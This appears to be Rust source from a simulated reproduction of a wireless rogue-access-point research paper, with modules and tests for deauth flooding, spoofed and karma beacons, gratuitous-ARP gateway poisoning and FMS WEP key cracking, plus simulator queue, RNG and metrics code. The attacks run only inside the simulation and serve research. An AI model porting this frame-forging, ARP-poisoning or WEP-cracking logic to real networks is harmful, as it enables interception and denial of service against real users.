    fn drain(inj: &mut dyn FrameInjector) -> Vec<F> {
        let mut out = Vec::new();
        let mut now = inj.next_wake();
        while now != SimTime::FOREVER {
            inj.poll(now, &mut out);
            now = inj.next_wake();
        }
        out.iter()
            .map(|o| {
                let MacOutput::Tx { bytes, .. } = o else {
                    panic!("expected Tx");
                };
                F::decode(bytes).unwrap()
            })
            .collect()
    }

    #[test]
    fn randomizing_rogue_rotates_bssids_on_schedule() {
        let mut r = MacRandomizingRogue::new(
            "CORP",
            6,
            SimDuration::from_millis(100),
            SimDuration::from_millis(500),
            7,
            SimTime::ZERO,
            SimTime::from_secs(3),
        );
        let frames = drain(&mut r);
        assert_eq!(frames.len(), 30);
        let mut distinct: Vec<MacAddr> = frames.iter().map(|f| f.addr2).collect();
        distinct.dedup();
        assert_eq!(distinct.len(), 6, "one rotation every 500 ms over 3 s");
        let mut sorted = distinct.clone();
        sorted.sort();
        sorted.dedup();
        assert_eq!(sorted.len(), 6, "rotations never reuse an address");
        for f in &frames {
            assert_eq!(f.addr2.0[0], 0x02, "locally administered");
            let FrameBody::Beacon(info) = &f.body else {
                panic!("beacons only");
            };
            assert_eq!(info.ssid, "CORP");
        }
    }

    #[test]
    fn karma_rogue_cloaks_beacons_and_cycles_names() {
        let mut r = KarmaProbeRogue::new(
            MacAddr::local(0xEE),
            6,
            vec!["HOME".into(), "AIRPORT".into(), "CORP".into()],
            SimDuration::from_millis(100),
            SimDuration::from_millis(150),
            SimTime::ZERO,
            SimTime::from_millis(900),
        );
        let frames = drain(&mut r);
        let mut beacons = 0;
        let mut names = Vec::new();
        for f in &frames {
            match &f.body {
                FrameBody::Beacon(info) => {
                    assert!(info.ssid.is_empty(), "beacons must be cloaked");
                    beacons += 1;
                }
                FrameBody::ProbeResp(info) => names.push(info.ssid.clone()),
                other => panic!("unexpected {other:?}"),
            }
        }
        assert_eq!(beacons, 9);
        assert_eq!(
            names,
            ["HOME", "AIRPORT", "CORP", "HOME", "AIRPORT", "CORP"]
        );
    }

    #[test]
    fn pulsed_flooder_bursts_then_pauses() {
        let mut p = PulsedDeauthFlooder::new(
            MacAddr::local(1),
            Some(MacAddr::local(50)),
            4,
            SimDuration::from_millis(100),
            SimDuration::from_secs(4),
            SimTime::ZERO,
            SimTime::from_secs(9),
        );
        let mut times = Vec::new();
        let mut out = Vec::new();
        let mut now = p.next_wake();
        while now != SimTime::FOREVER {
            times.push(now);
            p.poll(now, &mut out);
            now = p.next_wake();
        }
        // Bursts at 0,.1,.2,.3 then 4,4.1,4.2,4.3 then 8,8.1,8.2,8.3.
        assert_eq!(p.injected, 12);
        assert_eq!(times[0], SimTime::ZERO);
        assert_eq!(times[3], SimTime::from_millis(300));
        assert_eq!(times[4], SimTime::from_secs(4));
        assert_eq!(times[11], SimTime::from_millis(8300));
        // No 2-second window ever holds 5 frames.
        for w in times.windows(5) {
            assert!(w[4].since(w[0]) > SimDuration::from_secs(2));
        }
    }

    #[test]
    fn spoof_beaconer_clones_the_target() {
        let corp = MacAddr::local(1);
        let mut s = SpoofBeaconer::new(
            corp,
            "CORP",
            6,
            SimDuration::from_millis(800),
            SimTime::ZERO,
            SimTime::from_secs(4),
        );
        let frames = drain(&mut s);
        assert_eq!(frames.len(), 5);
        for f in &frames {
            assert_eq!(f.addr2, corp);
            let FrameBody::Beacon(info) = &f.body else {
                panic!("beacons only");
            };
            assert_eq!(info.channel, 6);
            assert_eq!(info.ssid, "CORP");
        }
    }
}
