//! Raw-frame injection strategies.
//!
//! Everything the §4 attacker transmits outside a real MAC association —
//! forged deauths, spoofed beacons, karma probe responses — is an
//! *injector*: a pure schedule of raw frames driven like a MAC entity.
//! The world polls each injector at [`FrameInjector::next_wake`] and
//! transmits whatever [`FrameInjector::poll`] emits on the attacker's
//! radio, so one world-side attachment point covers every injection
//! attack, present and future.

use rogue_dot11::output::MacOutput;
use rogue_sim::SimTime;

/// A raw-frame injection schedule.
pub trait FrameInjector {
    /// Earliest instant this injector needs a poll
    /// ([`SimTime::FOREVER`] when done).
    fn next_wake(&self) -> SimTime;

    /// Emit every frame due at or before `now`.
    fn poll(&mut self, now: SimTime, out: &mut Vec<MacOutput>);
}

impl FrameInjector for crate::DeauthFlooder {
    fn next_wake(&self) -> SimTime {
        crate::DeauthFlooder::next_wake(self)
    }

    fn poll(&mut self, now: SimTime, out: &mut Vec<MacOutput>) {
        crate::DeauthFlooder::poll(self, now, out)
    }
}
