//! Raw-frame injection strategies.
//!
//! Everything the §4 attacker transmits outside a real MAC association —
//! forged deauths, spoofed beacons, karma probe responses — is an
//! *injector*: a pure schedule of raw frames driven like a MAC entity.
//! The world polls each injector at [`FrameInjector::next_wake`] and
//! transmits whatever [`FrameInjector::poll`] emits on the attacker's
//! radio, so one world-side attachment point covers every injection
//! attack, present and future.

use rogue_dot11::output::MacOutput;
use rogue_sim::SimTime;

/// A raw-frame injection schedule.
///
/// `Send` because the world's parallel burst dispatcher may poll
/// injectors from a rayon worker thread (each node is still owned by
/// exactly one worker at a time).
pub trait FrameInjector: Send {
    /// Earliest instant this injector needs a poll
    /// ([`SimTime::FOREVER`] when done).
    fn next_wake(&self) -> SimTime;

    /// Emit every frame due at or before `now`.
    fn poll(&mut self, now: SimTime, out: &mut Vec<MacOutput>);

    /// Could a `poll` ever emit [`MacOutput::SetChannel`]? The world's
    /// parallel burst dispatcher treats a node whose injector may
    /// retune as a hazard and serializes the rest of the burst behind
    /// it, so keep this `false` (the default is the conservative
    /// `true`) whenever the injector transmits on a fixed channel.
    fn may_retune(&self) -> bool {
        true
    }
}

impl FrameInjector for crate::DeauthFlooder {
    fn next_wake(&self) -> SimTime {
        crate::DeauthFlooder::next_wake(self)
    }

    fn poll(&mut self, now: SimTime, out: &mut Vec<MacOutput>) {
        crate::DeauthFlooder::poll(self, now, out)
    }

    fn may_retune(&self) -> bool {
        false // emits only deauth Tx on the victim channel
    }
}
