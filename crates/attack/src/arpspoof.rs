//! Wired ARP spoofing — the paper's §1.2 contrast case.
//!
//! "The Man-in-the-middle (MITM) attack is possible in both wired and
//! wireless networks. In a wired network, one either needs to spoof DNS
//! requests or ARP requests or compromise a valid gateway machine to
//! obtain access to the clients traffic."
//!
//! This module implements the classic gratuitous-ARP gateway
//! impersonation so the reproduction can demonstrate the comparison the
//! paper draws: the wired attack requires inside presence on the LAN and
//! continuous cache re-poisoning, where the wireless rogue needs neither.

use rogue_dot11::MacAddr;
use rogue_netstack::arp::ArpPacket;
use rogue_netstack::ethernet::EthFrame;
use rogue_netstack::{Host, Ipv4Addr};
use rogue_services::apps::{App, AppEvent};
use rogue_sim::{SimDuration, SimTime};

/// Ethertype for ARP.
const ET_ARP: u16 = 0x0806;

/// Periodic gratuitous-ARP poisoner claiming `spoofed_ip` (typically the
/// LAN gateway) with our own MAC. Run as an app on the attacker's host;
/// the attacker host should have `ip_forward` so victims keep working
/// (the stealthy variant).
pub struct ArpSpoofer {
    /// IP being impersonated.
    pub spoofed_ip: Ipv4Addr,
    /// Victim to poison (broadcast when `None`).
    pub target: Option<(Ipv4Addr, MacAddr)>,
    /// Interface to emit on.
    iface: usize,
    period: SimDuration,
    next_tx: SimTime,
    /// Poison frames emitted.
    pub injected: u64,
}

impl ArpSpoofer {
    /// Poison `spoofed_ip` on `iface` every `period` from `start_at`.
    pub fn new(
        spoofed_ip: Ipv4Addr,
        target: Option<(Ipv4Addr, MacAddr)>,
        iface: usize,
        start_at: SimTime,
        period: SimDuration,
    ) -> ArpSpoofer {
        ArpSpoofer {
            spoofed_ip,
            target,
            iface,
            period,
            next_tx: start_at,
            injected: 0,
        }
    }
}

impl App for ArpSpoofer {
    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
        self
    }

    fn poll(&mut self, now: SimTime, host: &mut Host, _out: &mut Vec<AppEvent>) {
        while now >= self.next_tx {
            let my_mac = host.iface(self.iface).mac;
            let (dst_mac, dst_ip) = match self.target {
                Some((ip, mac)) => (mac, ip),
                None => (MacAddr::BROADCAST, Ipv4Addr::new(0, 0, 0, 0)),
            };
            // A forged is-at: "spoofed_ip is at my_mac".
            let reply = ArpPacket {
                op: rogue_netstack::arp::ArpOp::Reply,
                sender_mac: my_mac,
                sender_ip: self.spoofed_ip,
                target_mac: dst_mac,
                target_ip: dst_ip,
            };
            let frame = EthFrame::new(dst_mac, my_mac, ET_ARP, reply.encode());
            host.inject_frame(self.iface, frame.encode());
            self.injected += 1;
            self.next_tx += self.period;
        }
    }

    fn next_wake(&self) -> SimTime {
        self.next_tx
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_sim::{Seed, SimRng};

    #[test]
    fn emits_forged_is_at() {
        let mut host = Host::new("attacker", SimRng::new(Seed(1)));
        host.add_iface(MacAddr::local(66), Ipv4Addr::new(192, 168, 0, 13), 24);
        let mut spoofer = ArpSpoofer::new(
            Ipv4Addr::new(192, 168, 0, 1),
            Some((Ipv4Addr::new(192, 168, 0, 50), MacAddr::local(50))),
            0,
            SimTime::ZERO,
            SimDuration::from_millis(500),
        );
        let mut out = Vec::new();
        spoofer.poll(SimTime::ZERO, &mut host, &mut out);
        assert_eq!(spoofer.injected, 1);
        let frames = host.take_frames();
        assert_eq!(frames.len(), 1);
        let eth = EthFrame::decode(&frames[0].1).unwrap();
        assert_eq!(eth.dst, MacAddr::local(50));
        let arp = ArpPacket::decode(&eth.payload).unwrap();
        assert_eq!(arp.sender_ip, Ipv4Addr::new(192, 168, 0, 1));
        assert_eq!(arp.sender_mac, MacAddr::local(66), "the lie");
    }
}
