//! Airsnort: passive WEP key recovery and MAC harvesting.
//!
//! Consumes a promiscuous capture ([`rogue_dot11::monitor::Sniffer`]) and
//! drives the FMS vote tables in `rogue-crypto`. The crack is *verified*
//! the way the original tool did it: the candidate key must successfully
//! decrypt (ICV-check) a captured frame before it is reported.

use rogue_crypto::fms::{KeyRecovery, Sample};
use rogue_crypto::wep::{self, WepKey};
use rogue_dot11::frame::FrameBody;
use rogue_dot11::monitor::Sniffer;
use rogue_dot11::MacAddr;

/// Passive cracker state.
#[derive(Default)]
pub struct Airsnort {
    recovery: KeyRecovery,
    /// A captured protected frame body kept for candidate verification.
    verify_body: Option<Vec<u8>>,
    /// Samples absorbed.
    pub samples: u64,
}

/// Result of a crack attempt.
#[derive(Clone, Debug, PartialEq)]
pub enum CrackOutcome {
    /// Key recovered and verified against a captured frame.
    Recovered(WepKey),
    /// The top-voted candidate failed verification (not enough samples).
    CandidateFailed {
        /// The rejected candidate bytes.
        candidate: Vec<u8>,
    },
    /// No protected traffic captured at all.
    NoTraffic,
}

impl Airsnort {
    /// Fresh cracker.
    pub fn new() -> Airsnort {
        Airsnort::default()
    }

    /// Absorb one raw FMS sample (IV + first keystream byte), e.g. from
    /// an offline oracle sweep.
    pub fn absorb_sample(&mut self, s: Sample) {
        self.samples += 1;
        self.recovery.absorb(s);
    }

    /// Absorb everything a sniffer captured since the last call.
    /// (Idempotent use: feed a fresh sniffer or feed once.)
    pub fn absorb_sniffer(&mut self, sniffer: &Sniffer) {
        for s in sniffer.wep_samples() {
            self.absorb_sample(s);
        }
        if self.verify_body.is_none() {
            self.verify_body = sniffer.captures.iter().find_map(|c| match &c.frame.body {
                FrameBody::Data { payload } if c.frame.protected => Some(payload.to_vec()),
                _ => None,
            });
        }
    }

    /// Attempt key recovery for a `key_len`-byte secret (5 or 13).
    pub fn crack(&self, key_len: usize) -> CrackOutcome {
        if self.recovery.is_empty() {
            return CrackOutcome::NoTraffic;
        }
        let result = self.recovery.crack(key_len);
        let candidate = WepKey::new(&result.key);
        match &self.verify_body {
            Some(body) if wep::open(&candidate, body).is_ok() => CrackOutcome::Recovered(candidate),
            Some(_) => CrackOutcome::CandidateFailed {
                candidate: result.key,
            },
            None => {
                // No full frame to verify against (oracle mode): report
                // the candidate as recovered — the caller verifies.
                CrackOutcome::Recovered(candidate)
            }
        }
    }
}

/// Harvest candidate client MACs for the ACL bypass: stations seen
/// sending to-DS data toward `bssid`.
pub fn harvest_client_macs(sniffer: &Sniffer, bssid: MacAddr) -> Vec<MacAddr> {
    sniffer.client_macs(bssid)
}

#[cfg(test)]
mod tests {
    use super::*;
    use bytes::Bytes;
    use rogue_crypto::fms::targeted_weak_ivs;
    use rogue_dot11::frame::{encode_llc, Frame};
    use rogue_sim::SimTime;

    fn protected_frame(key: &WepKey, iv: [u8; 3], seq: u16) -> Bytes {
        let body = wep::seal(key, iv, 0, &encode_llc(0x0800, b"payload data"));
        let mut f = Frame::new(
            MacAddr::local(1),
            MacAddr::local(2),
            MacAddr::local(1),
            FrameBody::Data {
                payload: Bytes::from(body),
            },
        );
        f.to_ds = true;
        f.protected = true;
        f.seq = seq;
        f.encode()
    }

    #[test]
    fn cracks_key_from_sniffed_weak_iv_traffic() {
        let key = WepKey::new(b"KY#07");
        let mut sniffer = Sniffer::new();
        for (i, iv) in targeted_weak_ivs(5, 220).into_iter().enumerate() {
            sniffer.on_receive(
                SimTime::from_micros(i as u64 * 100),
                &protected_frame(&key, iv, (i % 4096) as u16),
                -48.0,
                1,
            );
        }
        let mut snort = Airsnort::new();
        snort.absorb_sniffer(&sniffer);
        match snort.crack(5) {
            CrackOutcome::Recovered(k) => assert_eq!(k.bytes(), key.bytes()),
            other => panic!("expected recovery, got {other:?}"),
        }
    }

    #[test]
    fn too_little_traffic_fails_verification() {
        let key = WepKey::new(b"KY#07");
        let mut sniffer = Sniffer::new();
        for (i, iv) in targeted_weak_ivs(5, 2).into_iter().enumerate() {
            sniffer.on_receive(
                SimTime::ZERO,
                &protected_frame(&key, iv, i as u16),
                -48.0,
                1,
            );
        }
        let mut snort = Airsnort::new();
        snort.absorb_sniffer(&sniffer);
        match snort.crack(5) {
            CrackOutcome::CandidateFailed { candidate } => {
                assert_ne!(&candidate, key.bytes(), "lucky guess would be miraculous");
            }
            CrackOutcome::Recovered(k) => {
                // Astronomically unlikely but not impossible; accept only
                // if genuinely correct.
                assert_eq!(k.bytes(), key.bytes());
            }
            CrackOutcome::NoTraffic => panic!("we fed traffic"),
        }
    }

    #[test]
    fn no_traffic_outcome() {
        let snort = Airsnort::new();
        assert_eq!(snort.crack(5), CrackOutcome::NoTraffic);
    }

    #[test]
    fn harvests_macs_through_wrapper() {
        let key = WepKey::new(b"KY#07");
        let mut sniffer = Sniffer::new();
        sniffer.on_receive(
            SimTime::ZERO,
            &protected_frame(&key, [1, 2, 3], 1),
            -48.0,
            1,
        );
        let macs = harvest_client_macs(&sniffer, MacAddr::local(1));
        assert_eq!(macs, vec![MacAddr::local(2)]);
    }
}
