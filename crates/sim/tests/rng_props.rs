//! Properties of the seed-forking scheme that make parallel replication
//! safe: every replication derives its own stream purely from
//! `(master seed, label)`, so no execution order can perturb it.

use proptest::collection;
use proptest::prelude::*;
use rogue_sim::{Seed, SimRng};
use std::collections::HashSet;

fn stream_prefix(seed: Seed, n: usize) -> Vec<u64> {
    let mut rng = SimRng::new(seed);
    (0..n).map(|_| rng.next_u64()).collect()
}

proptest! {
    /// Distinct labels fork distinct seeds AND distinct generator
    /// streams — replication `i` can never alias replication `j`.
    #[test]
    fn fork_label_independence(seed in any::<u64>(), a in any::<u64>(), b in any::<u64>()) {
        prop_assume!(a != b);
        let (fa, fb) = (Seed(seed).fork(a), Seed(seed).fork(b));
        prop_assert!(fa != fb, "labels {a} and {b} collided on seed {seed}");
        prop_assert!(
            stream_prefix(fa, 8) != stream_prefix(fb, 8),
            "distinct forks of seed {seed} produced identical streams"
        );
    }

    /// Forking commutes with creation order: the child for a label is a
    /// pure function of (parent, label), so interleaving other forks —
    /// as a parallel scheduler effectively does — changes nothing.
    #[test]
    fn fork_commutes_with_creation_order(seed in any::<u64>(), labels in collection::vec(any::<u64>(), 2..9)) {
        let parent = Seed(seed);
        let forward: Vec<Seed> = labels.iter().map(|&l| parent.fork(l)).collect();
        let mut backward: Vec<Seed> = labels.iter().rev().map(|&l| parent.fork(l)).collect();
        backward.reverse();
        prop_assert_eq!(&forward, &backward);
        // Interleaving unrelated forks between derivations is also inert.
        for (&label, &child) in labels.iter().zip(&forward) {
            let _noise = parent.fork(label ^ 0xDEAD_BEEF);
            prop_assert_eq!(parent.fork(label), child);
        }
    }

    /// Sequential replication labels never collide: 10k forks of one
    /// master seed give 10k distinct child seeds, none equal the parent.
    #[test]
    fn no_collision_across_10k_forked_seeds(seed in any::<u64>()) {
        let parent = Seed(seed);
        let mut seen = HashSet::with_capacity(10_000);
        for label in 0..10_000u64 {
            let child = parent.fork(label);
            prop_assert!(child != parent, "label {label} reproduced the parent seed");
            prop_assert!(seen.insert(child.0), "label {label} collided with an earlier fork");
        }
    }
}
