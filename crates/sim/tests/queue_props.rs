//! Property tests for the event-queue core and the sharded merge.
//!
//! Two contracts are pinned here:
//!
//! 1. **Merge identity** — a [`ShardedQueue`] with any shard count pops
//!    the exact `(time, seq)` sequence a single [`EventQueue`] would,
//!    for the same global schedule/cancel/pop history. This is the
//!    foundation the sharded world loop's bit-identity rests on.
//! 2. **Cancel-storm accounting** — under heavy schedule/cancel/pop
//!    interleaving (the deauth-flood shape), `len()`, tombstone
//!    accounting and `dispatched()` never drift from a reference model,
//!    and tombstone compaction keeps resident wheel nodes bounded.
//! 3. **Wheel-vs-heap differential** — the timer-wheel queue pops the
//!    exact sequence a straightforward `BinaryHeap<(time, seq)>` does,
//!    for arbitrary `schedule` / `schedule_at_seq` / `cancel` /
//!    `pop_until` interleavings.

use proptest::collection;
use proptest::prelude::*;
use rogue_sim::{EventQueue, ShardedQueue, SimDuration, SimTime};
use std::cmp::Reverse;
use std::collections::{BTreeMap, BinaryHeap, HashMap};

/// Reference queue: the shape this repo used before the timer wheel —
/// a binary heap ordered by `(time, seq)` plus a liveness map for
/// cancellation. Deliberately naive; its pop order *defines* what the
/// wheel must reproduce.
struct RefQueue<E> {
    heap: BinaryHeap<Reverse<(SimTime, u64)>>,
    live: HashMap<u64, (SimTime, E)>,
    now: SimTime,
    next_seq: u64,
    dispatched: u64,
}

impl<E> RefQueue<E> {
    fn new() -> Self {
        RefQueue {
            heap: BinaryHeap::new(),
            live: HashMap::new(),
            now: SimTime::ZERO,
            next_seq: 0,
            dispatched: 0,
        }
    }

    fn schedule(&mut self, at: SimTime, ev: E) -> u64 {
        let seq = self.next_seq;
        self.next_seq += 1;
        self.heap.push(Reverse((at, seq)));
        self.live.insert(seq, (at, ev));
        seq
    }

    fn schedule_at_seq(&mut self, at: SimTime, seq: u64, ev: E) {
        self.next_seq = self.next_seq.max(seq + 1);
        self.heap.push(Reverse((at, seq)));
        self.live.insert(seq, (at, ev));
    }

    fn cancel(&mut self, seq: u64) -> bool {
        self.live.remove(&seq).is_some()
    }

    /// Earliest live fire time (skims cancelled heap tombstones).
    fn peek_time(&mut self) -> Option<SimTime> {
        while let Some(&Reverse((t, s))) = self.heap.peek() {
            if self.live.contains_key(&s) {
                return Some(t);
            }
            self.heap.pop();
        }
        None
    }

    fn pop(&mut self) -> Option<(SimTime, E)> {
        self.peek_time()?;
        let Reverse((t, s)) = self.heap.pop().expect("peeked");
        let (_, ev) = self.live.remove(&s).expect("peeked live");
        self.now = t;
        self.dispatched += 1;
        Some((t, ev))
    }

    fn pop_until(&mut self, deadline: SimTime) -> Option<(SimTime, E)> {
        match self.peek_time() {
            Some(t) if t <= deadline => self.pop(),
            _ => None,
        }
    }
}

/// Decoded queue operation. `word` is raw proptest entropy.
enum Op {
    /// Schedule at now + (0..50) ms on shard (word-derived).
    Schedule { delay_ms: u64, shard_salt: u64 },
    /// Cancel the id at index (word mod ids.len()), if any.
    Cancel { pick: u64 },
    /// Pop unconditionally.
    Pop,
    /// Pop with deadline now + (0..10) ms — exercises the inclusive
    /// boundary arm as well, since delays and deadlines share the ms
    /// grid and collide often.
    PopUntil { horizon_ms: u64 },
}

fn decode(word: u64) -> Op {
    match word % 100 {
        0..=54 => Op::Schedule {
            delay_ms: (word / 100) % 50,
            shard_salt: word / 7,
        },
        55..=69 => Op::Cancel { pick: word / 100 },
        70..=84 => Op::Pop,
        _ => Op::PopUntil {
            horizon_ms: (word / 100) % 10,
        },
    }
}

proptest! {
    /// Replay one operation history against a single queue and sharded
    /// queues of width 2, 3 and 8; every pop, every len, every cancel
    /// outcome must agree exactly.
    #[test]
    fn sharded_merge_is_identical_to_single_queue(words in collection::vec(any::<u64>(), 1..400)) {
        for num_shards in [2usize, 3, 8] {
            let mut single: EventQueue<u64> = EventQueue::new();
            let mut sharded: ShardedQueue<u64> = ShardedQueue::new(num_shards);
            let mut ids_single = Vec::new();
            let mut ids_sharded = Vec::new();
            for (i, &word) in words.iter().enumerate() {
                match decode(word) {
                    Op::Schedule { delay_ms, shard_salt } => {
                        let at = single.now() + SimDuration::from_millis(delay_ms);
                        let shard = (shard_salt as usize) % num_shards;
                        ids_single.push(single.schedule(at, i as u64));
                        ids_sharded.push(sharded.schedule(shard, at, i as u64));
                        // Same global counter -> same EventId.
                        prop_assert_eq!(ids_single.last(), ids_sharded.last());
                    }
                    Op::Cancel { pick } => {
                        if !ids_single.is_empty() {
                            let idx = (pick as usize) % ids_single.len();
                            let a = single.cancel(ids_single[idx]);
                            let b = sharded.cancel(ids_sharded[idx]);
                            prop_assert_eq!(a, b, "cancel outcome diverged");
                        }
                    }
                    Op::Pop => {
                        let a = single.pop();
                        let b = sharded.pop().map(|(t, e, _)| (t, e));
                        prop_assert_eq!(a, b, "pop diverged");
                    }
                    Op::PopUntil { horizon_ms } => {
                        let deadline = single.now() + SimDuration::from_millis(horizon_ms);
                        let a = single.pop_until(deadline);
                        let b = sharded.pop_until(deadline).map(|(t, e, _)| (t, e));
                        prop_assert_eq!(a, b, "pop_until diverged");
                    }
                }
                prop_assert_eq!(single.len(), sharded.len());
                prop_assert_eq!(single.now(), sharded.now());
                prop_assert_eq!(single.dispatched(), sharded.dispatched());
            }
            // Drain both to the end: the tails must match too.
            loop {
                let a = single.pop();
                let b = sharded.pop().map(|(t, e, _)| (t, e));
                prop_assert_eq!(&a, &b, "drain diverged");
                if a.is_none() {
                    break;
                }
            }
        }
    }

    /// Cancel storm against a reference model: a BTreeMap keyed by
    /// (time, seq) — exactly the queue's dispatch order — tracking the
    /// live set. len(), pop results, cancel outcomes and dispatched()
    /// must track the model through arbitrary interleavings.
    #[test]
    fn cancel_storm_accounting_stays_exact(words in collection::vec(any::<u64>(), 1..600)) {
        let mut q: EventQueue<u64> = EventQueue::new();
        let mut model: BTreeMap<(SimTime, u64), u64> = BTreeMap::new();
        let mut ids: Vec<(rogue_sim::queue::EventId, (SimTime, u64))> = Vec::new();
        let mut seq = 0u64;
        let mut expected_dispatched = 0u64;
        for (i, &word) in words.iter().enumerate() {
            match decode(word) {
                Op::Schedule { delay_ms, .. } => {
                    let at = q.now() + SimDuration::from_millis(delay_ms);
                    let id = q.schedule(at, i as u64);
                    model.insert((at, seq), i as u64);
                    ids.push((id, (at, seq)));
                    seq += 1;
                }
                Op::Cancel { pick } => {
                    if !ids.is_empty() {
                        let idx = (pick as usize) % ids.len();
                        let (id, key) = ids[idx];
                        let was_live = model.remove(&key).is_some();
                        prop_assert_eq!(
                            q.cancel(id), was_live,
                            "cancel returned wrong liveness"
                        );
                    }
                }
                Op::Pop | Op::PopUntil { .. } => {
                    let deadline = match decode(word) {
                        Op::PopUntil { horizon_ms } => {
                            Some(q.now() + SimDuration::from_millis(horizon_ms))
                        }
                        _ => None,
                    };
                    let expect = model.iter().next().map(|(&(t, s), &e)| (t, s, e));
                    let expect = match (deadline, expect) {
                        (Some(d), Some((t, _, _))) if t > d => None,
                        (_, e) => e,
                    };
                    let got = match deadline {
                        Some(d) => q.pop_until(d),
                        None => q.pop(),
                    };
                    prop_assert_eq!(
                        got,
                        expect.map(|(t, _, e)| (t, e)),
                        "pop diverged from model"
                    );
                    if let Some((mt, ms, _)) = expect {
                        model.remove(&(mt, ms));
                        expected_dispatched += 1;
                    }
                }
            }
            prop_assert_eq!(q.len(), model.len(), "len drifted from model");
            prop_assert_eq!(q.dispatched(), expected_dispatched, "dispatch count drifted");
            // Tombstone compaction bound: resident wheel nodes may lag
            // live events (lazy cancellation), but never by more than
            // len() stale nodes plus the compaction floor.
            prop_assert!(
                q.resident() <= 2 * q.len() + 64,
                "tombstones unbounded: resident {} vs len {}",
                q.resident(),
                q.len()
            );
        }
    }

    /// Differential test: the timer-wheel queue against [`RefQueue`],
    /// the naive BinaryHeap it replaced. Every schedule (auto-seq and
    /// explicit `schedule_at_seq`), cancel outcome, pop result, and the
    /// len/now/dispatched counters must agree at every step.
    #[test]
    fn wheel_matches_reference_binaryheap(words in collection::vec(any::<u64>(), 1..500)) {
        let mut q: EventQueue<u64> = EventQueue::new();
        let mut r: RefQueue<u64> = RefQueue::new();
        let mut ids: Vec<(rogue_sim::queue::EventId, u64)> = Vec::new();
        for (i, &word) in words.iter().enumerate() {
            match decode(word) {
                Op::Schedule { delay_ms, shard_salt } => {
                    let at = q.now() + SimDuration::from_millis(delay_ms);
                    if shard_salt % 5 == 0 {
                        // Explicit-seq path (the restore/replay API):
                        // unique seqs far above the auto range, so they
                        // sort after auto-scheduled events at the same
                        // instant — both queues must agree on that.
                        let seq = 1_000_000 + i as u64;
                        let id = q.schedule_at_seq(at, seq, i as u64);
                        r.schedule_at_seq(at, seq, i as u64);
                        ids.push((id, seq));
                    } else {
                        let id = q.schedule(at, i as u64);
                        let seq = r.schedule(at, i as u64);
                        ids.push((id, seq));
                    }
                }
                Op::Cancel { pick } => {
                    if !ids.is_empty() {
                        let idx = (pick as usize) % ids.len();
                        let (id, seq) = ids[idx];
                        prop_assert_eq!(
                            q.cancel(id),
                            r.cancel(seq),
                            "cancel outcome diverged from reference"
                        );
                    }
                }
                Op::Pop => {
                    prop_assert_eq!(q.pop(), r.pop(), "pop diverged from reference");
                }
                Op::PopUntil { horizon_ms } => {
                    let deadline = q.now() + SimDuration::from_millis(horizon_ms);
                    prop_assert_eq!(
                        q.pop_until(deadline),
                        r.pop_until(deadline),
                        "pop_until diverged from reference"
                    );
                }
            }
            prop_assert_eq!(q.len(), r.live.len());
            prop_assert_eq!(q.now(), r.now);
            prop_assert_eq!(q.dispatched(), r.dispatched);
        }
        // Drain both to exhaustion: tail order must match too.
        loop {
            let a = q.pop();
            let b = r.pop();
            prop_assert_eq!(&a, &b, "drain diverged from reference");
            if a.is_none() {
                break;
            }
        }
    }
}
