//! # rogue-sim — deterministic discrete-event simulation kernel
//!
//! This crate is the substrate beneath every experiment in the
//! *Countering Rogues in Wireless Networks* reproduction. It provides:
//!
//! * [`SimTime`] / [`SimDuration`] — integer-nanosecond virtual time,
//! * [`EventQueue`] — a stable-ordered pending-event set: events scheduled
//!   for the same instant fire in scheduling order, which makes every run a
//!   pure function of its inputs,
//! * [`rng`] — a from-scratch SplitMix64 / xoshiro256\*\* PRNG family so
//!   experiments are bit-reproducible from a single master [`rng::Seed`]
//!   without depending on external RNG crates whose streams may change,
//! * [`trace`] — a lightweight event trace and counter/histogram recorder
//!   used by the experiment harness.
//!
//! Design rule (see DESIGN.md §5, revised by §15): one simulation world
//! dispatches events serially and deterministically; parallelism happens
//! *across* worlds (seeds, parameter points) in the `rogue-core`
//! experiment drivers, and — since PR 8 — *inside* a world only in the
//! read-only plan phase of the sharded lockstep loop ([`ShardedQueue`]),
//! whose merged dispatch order is provably identical to a single
//! [`EventQueue`].

pub mod profile;
pub mod queue;
pub mod rng;
pub mod shard;
pub mod time;
pub mod trace;

pub use queue::EventQueue;
pub use rng::{Seed, SimRng};
pub use shard::ShardedQueue;
pub use time::{SimDuration, SimTime};
