//! Run metrics: counters, gauges and fixed-boundary histograms.
//!
//! The experiment harness (rogue-core) aggregates one [`Metrics`] per world
//! and merges them across Monte-Carlo replications; merging is associative
//! so results are independent of rayon's reduction order.

use std::collections::BTreeMap;
use std::fmt;

use crate::time::SimTime;

/// A single timestamped trace record, used by tests to assert ordering of
/// protocol milestones (e.g. "victim associated to rogue before download").
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TraceEvent {
    /// When it happened.
    pub at: SimTime,
    /// Stable machine-readable kind, e.g. `"dot11.assoc"`.
    pub kind: &'static str,
    /// Free-form detail (entity ids, addresses).
    pub detail: String,
}

/// Counters / gauges / histograms, keyed by static strings.
#[derive(Default, Clone)]
pub struct Metrics {
    counters: BTreeMap<&'static str, u64>,
    sums: BTreeMap<&'static str, f64>,
    histograms: BTreeMap<&'static str, Histogram>,
    events: Vec<TraceEvent>,
    record_events: bool,
}

impl Metrics {
    /// Metrics sink that also records the full event trace (tests, debug).
    pub fn with_trace() -> Self {
        Metrics {
            record_events: true,
            ..Metrics::default()
        }
    }

    /// Increment a counter by 1.
    pub fn incr(&mut self, key: &'static str) {
        self.add(key, 1);
    }

    /// Increment a counter by `n`.
    pub fn add(&mut self, key: &'static str, n: u64) {
        *self.counters.entry(key).or_insert(0) += n;
    }

    /// Overwrite a counter with an externally maintained total (used to
    /// mirror substrate statistics like the phy counters into the sink).
    pub fn set(&mut self, key: &'static str, v: u64) {
        self.counters.insert(key, v);
    }

    /// Accumulate into a floating-point sum (for means computed at report
    /// time as `sum / counter`).
    pub fn accumulate(&mut self, key: &'static str, v: f64) {
        *self.sums.entry(key).or_insert(0.0) += v;
    }

    /// Record a sample into the histogram named `key`.
    pub fn observe(&mut self, key: &'static str, v: f64) {
        self.histograms.entry(key).or_default().observe(v);
    }

    /// Append a trace event (no-op unless constructed via `with_trace`).
    pub fn event(&mut self, at: SimTime, kind: &'static str, detail: impl Into<String>) {
        if self.record_events {
            self.events.push(TraceEvent {
                at,
                kind,
                detail: detail.into(),
            });
        }
    }

